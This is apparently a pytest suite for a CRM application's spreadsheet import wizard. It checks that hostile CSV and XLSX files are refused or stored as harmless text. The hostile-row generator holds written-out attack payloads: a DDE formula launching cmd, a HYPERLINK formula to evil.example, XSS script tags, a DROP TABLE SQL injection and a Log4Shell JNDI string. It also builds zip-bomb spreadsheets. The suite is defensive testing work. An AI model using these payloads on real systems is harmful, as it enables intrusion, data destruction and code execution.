"""Files that mean harm, or were made by broken programs: each row is answered, nothing runs, nothing falls over."""

import random
import resource
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest
import sqlalchemy as sa

from crm_app.core.errors import Invalid
from crm_app.models.base import table_of
from crm_app.models.customers.accounts import Account
from crm_app.models.platform.imports import JobStatus
from crm_app.services.platform.imports import grid, jobs, keeping, sheets
from crm_app.store.uow import unit_of_work
from tests.services.imports.wizard import wizard_of

ROWS = 10_000
_MB = 1024**2
_MEMORY = 1024 * _MB
HEAD = b"Company,Website,E-mail,Employees,Annual revenue,Founded year,Currency,City,City,Description\n"
_XML = "http://schemas.openxmlformats.org"
_PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{_XML}/package/2006/content-types"><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{_XML}/package/2006/relationships"><Relationship Id="r1" Type='
    f'"{_XML}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_XML}/spreadsheetml/2006/main" xmlns:r="{_XML}/officeDocument/2006/'
    'relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_XML}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{_XML}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
_OPEN = f'<worksheet xmlns="{_XML}/spreadsheetml/2006/main"><sheetData>'.encode()
_CLOSE = b"</sheetData></worksheet>"


def hostile_row(rng: random.Random, number: int) -> bytes:
    """One of the ways in which a row can be wrong, or only look so."""
    fine = f"Firm {number},www.firm{number}.example,a{number}@example.com,12,1000,1999,EUR,Linz,Graz,x\n".encode()
    kinds = [
        fine,
        b"",  # an empty line
        b"\n",
        f"=cmd|'/C calc'!A{number},,,,,,,,,\n".encode(),
        f'"=HYPERLINK(""http://evil.example/{number}"",""x"")",,,,,,,,,@SUM(1+1)\n'.encode(),
        f"<script>alert({number})</script>,javascript:alert(1),,,,,,,,<img src=x onerror=alert(1)>\n".encode(),
        f"Firm {number},,no mail,many,a lot,13/13/2026,XXX,,,\n".encode(),
        f"Firm {number};www.example;x;y;z\n".encode(),
        f"Firm {number}\twww\tx\n".encode(),
        (f"Firm {number}," + "x," * 40 + "\n").encode(),
        b"Caf\xe9 " + str(number).encode() + b" \xff\xfe\x81,,,,,,,,,\n",
        f"Nul \x00 {number},,,,,,,,,\n".encode(),
        f"Firm {number},,,-99999999999999999999999999,1e999,0,EUR,,,\n".encode(),
        f"Firm {number},,,NaN,Infinity,-1,EUR,,,\n".encode(),
        (f"Firm {number}" + "\u202e\u200b\U0001f4a9" * 60 + ",,,,,,,,,\n").encode(),
        f"'; DROP TABLE account; -- {number},,,,,,,,,\n".encode(),
        f"${{jndi:ldap://evil/{number}}},{{{{7*7}}}},,,,,,,,%s%n\n".encode(),
        f'"Two\nlines {number}",,,,,,,,,\n'.encode(),
        b",,,,,,,,,only a description\n",
        (f"{'A' * 5000} {number},,,,,,,,,\n").encode(),
    ]
    return rng.choice(kinds)


def hostile_file() -> bytes:
    rng = random.Random(7)
    rows = [hostile_row(rng, n) for n in range(ROWS)]
    for place in range(0, ROWS, 250):
        rows[place] = b"Big " + str(place).encode() + b",,,,,,,,," + b"x" * _MB + b"\n"  # cells of 1 MB
    umlauts = "Müller und Söhne Österreich,,,,,,,,,\n".encode() * (ROWS // 4)  # most letters are well-formed UTF-8
    return HEAD + b"".join(rows) + umlauts


def spreadsheet(path: Path, rows: Iterable[bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, text in _PARTS.items():
            book.writestr(name, f'<?xml version="1.0"?>{text}')
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(_OPEN)
            for row in rows:
                part.write(row)
            part.write(_CLOSE)
    return path


def cell(place: str, text: str) -> bytes:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


@pytest.mark.alone
async def test_ten_thousand_hostile_rows_are_all_answered(admin):
    wizard = await wizard_of(admin)
    await wizard.add("hostile.csv", hostile_file(), entity="account")
    job = await wizard.check()
    assert job.status is JobStatus.checked, job.error
    (step,) = job.report["steps"]
    answered = step["new"] + step["rejected"] + step["duplicates"] + step["skipped"] + step["unchanged"]
    assert answered == step["rows"] > ROWS  # the umlauts beside them, without the empty lines
    folder = jobs.folder_of(admin, wizard.job_id)
    problems = keeping.problems(folder, 0)
    assert len({p.row for p in problems}) == step["rejected"] + step["duplicates"] > ROWS // 2
    assert all(p.message for p in problems)
    said = " ".join({p.message for p in problems})
    for words in ("1,048,576 characters", "cannot be read", "no text", "cells under", "is required", "is no number"):
        assert words in said, words
    async with unit_of_work(admin) as uow:
        seen = await grid.read(uow, wizard.job_id, job.document["sources"][0]["key"], tab=grid.FIX)
        _, mend = await grid.rows_to_mend(uow, wizard.job_id, job.document["sources"][0]["key"])
    assert seen.total == step["rejected"] and all(len(c.text) <= 200 for r in seen.rows for c in r.cells)
    assert not [line for line in mend.splitlines() if line.startswith(("=", "@", "+"))]
    job = await wizard.run()
    assert job.status is JobStatus.done, job.error
    table = table_of(Account)
    async with unit_of_work(admin) as uow:
        names = [r.name for r in await uow.rows(sa.select(table.c.name))]
    assert len(names) == step["new"] > ROWS // 4
    assert any(n.startswith("<script>alert(") for n in names)  # kept as the text it is, and drawn as text
    assert any(n.startswith("'; DROP TABLE account") for n in names)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 < _MEMORY


def bombs() -> list[tuple[str, list[bytes], str]]:
    wide = b"<row>" + b"".join(cell(f"A{n}", "A" * 1000) for n in range(100)) + b"</row>"
    corner = [b'<row r="1">', cell("A1", "Name"), b'</row><row r="1048576">', cell("XFD1048576", "x"), b"</row>"]
    return [
        ("tall.xlsx", [wide * 20] * 60, "unpacks to"),
        ("corner.xlsx", corner, "more memory"),
        ("broken.xlsx", [b"<row><c"], "cannot be read|has no rows"),
    ]


@pytest.mark.alone
@pytest.mark.parametrize(("name", "rows", "said"), bombs(), ids=lambda v: v if isinstance(v, str) else "rows")
async def test_a_bomb_of_a_spreadsheet_is_refused(admin, tmp_path, name, rows, said):
    path = spreadsheet(tmp_path / name, rows)
    wizard = await wizard_of(admin)
    with pytest.raises(Invalid, match=said):
        await wizard.add_path(path)
    assert (await wizard.job()).document["sources"] == []
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < _MEMORY


@pytest.mark.alone
async def test_a_bomb_that_lies_about_its_size_ends_in_its_own_process(admin, tmp_path, monkeypatch):
    monkeypatch.setattr(sheets, "_RATIO", 10**9)
    wide = b"<row>" + b"".join(cell(f"A{n}", "A" * 1000) for n in range(100)) + b"</row>"
    path = spreadsheet(tmp_path / "liar.xlsx", [wide * 20] * 500)
    wizard = await wizard_of(admin)
    with pytest.raises(Invalid, match=r"more memory|cannot be read"):
        await wizard.add_path(path)
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < _MEMORY


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("open.csv", b'Name,City\nA,"' + b"never closed\n" * 2_000_000, "quotation mark"),
        ("wide.csv", b",".join(b"c%d" % n for n in range(5_000)) + b"\n1\n", "columns"),
        ("binary.csv", bytes(range(256)) * 50 + b"\x00" * 5_000, "no text table"),
        ("zip.csv", b"PK\x03\x04" + b"\x00" * 5_000, "no text table"),
    ],
)
async def test_files_that_are_no_table_are_refused_in_a_sentence(admin, name, content, said):
    wizard = await wizard_of(admin)
    with pytest.raises(Invalid, match=said):
        await wizard.add(name, content)


async def test_headings_that_come_twice_or_are_empty_are_told_apart(admin):
    wizard = await wizard_of(admin)
    await wizard.add("twice.csv", "Name,Name,,<script>,Name\nA,B,C,D,E\n", entity="account")
    one = await wizard.source()
    assert [c["heading"] for c in one["columns"]] == ["Name", "Name (2)", "Column 3", "<script>", "Name (3)"]
    assert (await wizard.check()).report["steps"][0]["new"] == 1


async def test_several_sheets_come_at_once(admin, tmp_path):
    parts = dict(_PARTS)
    named = ((1, "Companies"), (2, "People"))
    sheets_of = "".join(f'<sheet name="{n}" sheetId="{i}" r:id="r{i}"/>' for i, n in named)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace('<sheet name="S" sheetId="1" r:id="r1"/>', sheets_of)
    kind = f"{_XML}/officeDocument/2006/relationships/worksheet"
    more = f'<Relationship Id="r2" Type="{kind}" Target="worksheets/sheet2.xml"/>'
    rels = "xl/_rels/workbook.xml.rels"
    parts[rels] = parts[rels].replace("</Relationships>", more + "</Relationships>")
    path = tmp_path / "book.xlsx"
    with zipfile.ZipFile(path, "w") as book:
        for name, text in parts.items():
            book.writestr(name, f'<?xml version="1.0"?>{text}')
        first = [b'<row r="1">', cell("A1", "Company"), b'</row><row r="2">', cell("A2", "Acme"), b"</row>"]
        second = [
            b'<row r="1">', cell("A1", "Last name"), cell("B1", "Company"), b'</row><row r="2">', cell("A2", "Berg"),
            cell("B2", "Acme"), b"</row>",
        ]  # fmt: skip
        book.writestr("xl/worksheets/sheet1.xml", _OPEN + b"".join(first) + _CLOSE)
        book.writestr("xl/worksheets/sheet2.xml", _OPEN + b"".join(second) + _CLOSE)
    wizard = await wizard_of(admin)
    await wizard.add_path(path)
    assert [s["entity"] for s in (await wizard.job()).document["sources"]] == ["account", "contact"]
    job = await wizard.check()
    assert [(s["name"], s["new"]) for s in job.report["steps"]] == [
        ("book.xlsx · Companies", 1),
        ("book.xlsx · People", 1),
    ]
    assert (await wizard.run()).status is JobStatus.done
